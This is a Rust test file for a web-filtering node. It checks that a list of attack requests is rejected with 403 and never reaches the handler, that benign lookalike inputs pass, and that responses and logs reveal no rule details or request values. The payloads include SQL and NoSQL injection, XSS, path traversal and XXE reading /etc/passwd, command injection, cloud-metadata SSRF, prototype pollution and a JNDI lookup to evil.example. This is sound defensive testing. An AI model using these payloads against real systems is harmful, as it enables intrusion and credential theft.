//! What a node refuses that nobody has told anything.

use super::{FORM, JSON, Site};

#[test]
fn attacks_never_run() {
    let site = Site::start("");
    for (method, target, headers, body) in [
        ("GET", "/echo?id=1%27%20OR%20%271%27%3D%271", &[][..], ""),
        ("GET", "/echo?id=1%20UNION%20SELECT%20name,password%20FROM%20users--", &[], ""),
        ("GET", "/echo?q=%3Cscript%3Ealert(1)%3C/script%3E", &[], ""),
        ("GET", "/echo?file=../../../../etc/passwd", &[], ""),
        ("GET", "/echo?cmd=;cat%20/etc/passwd", &[], ""),
        ("GET", "/echo?url=http://169.254.169.254/latest/meta-data/", &[], ""),
        ("GET", "/echo?x=$%7Bjndi:ldap://evil.example/a%7D", &[], ""),
        ("GET", "/echo?user[$ne]=x", &[], ""),
        ("GET", "/echo?a=1", &[("user-agent", "sqlmap/1.8#stable")], ""),
        ("GET", "/echo?a=1", &[("x-note", "${jndi:ldap://evil.example/a}")], ""),
        ("GET", "/echo?a=1", &[("cookie", "id=1' UNION SELECT password FROM users-- -")], ""),
        ("POST", "/echo", FORM, "id=1%27+OR+%271%27%3D%271"),
        ("POST", "/echo", JSON, r#"{"name":{"$gt":""},"a":1}"#),
        ("POST", "/echo", JSON, r#"{"__proto__":{"admin":true}}"#),
        ("POST", "/echo", JSON, r#"{"q":"1' UNION SELECT password FROM users-- -"}"#),
        ("POST", "/echo", &[], r#"{"q":"1' UNION SELECT password FROM users-- -"}"#),
        (
            "POST",
            "/echo",
            &[("content-type", "application/xml")],
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
        ),
    ] {
        site.check((method, target), headers, body.as_bytes(), 403, "rule-matched");
    }
    assert_eq!(site.runs(), 0, "an attack reached the function");
    for (method, target, headers, body) in [
        ("GET", "/echo?q=select+a+colour+from+the+list", &[][..], ""),
        ("GET", "/echo?name=O%27Brien&next=https://example.com/a?b=c", &[], ""),
        ("GET", "/echo", &[("user-agent", "curl/8.9.1")], ""),
        ("POST", "/echo", FORM, "comment=I%27d+like+to+drop+the+table+off+at+5"),
        ("POST", "/echo", JSON, r#"{"name":"Anne-Marie","price":{"amount":12.5},"tags":["a","b"]}"#),
    ] {
        site.check((method, target), headers, body.as_bytes(), 200, "");
    }
    assert_eq!(site.runs(), 5);
}

/// Who has no credential learns nothing from a rule that nobody with one would not learn.
#[test]
fn an_answer_tells_no_rule() {
    let site = Site::start("");
    let answer = site.ask(("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"), &[], b"");
    let text = answer.text();
    assert_eq!(answer.status, 403);
    for told in ["sql", "SQL", "98", "rule id", "OR", "score"] {
        assert!(
            !text.replace(answer.headers["x-request-id"].to_str().unwrap(), "").contains(told),
            "{told}: {text}"
        );
    }
    let id = answer.headers["x-request-id"].to_str().unwrap();
    let record = site.node.records(&["--request", id]).into_iter().find(|one| one["code"] == "rule-matched");
    let detail = record.unwrap()["detail"].as_str().unwrap().to_owned();
    assert!(detail.contains("ARGS:id") && detail.contains("score"), "{detail}");
    assert!(!detail.contains("OR '1'"), "a record holds no value of a request: {detail}");
    let logs = site.node.run(&["logs", "echo"]).ok().out;
    assert!(logs.contains("rule-matched") && !logs.contains("OR '1'"), "{logs}");
}
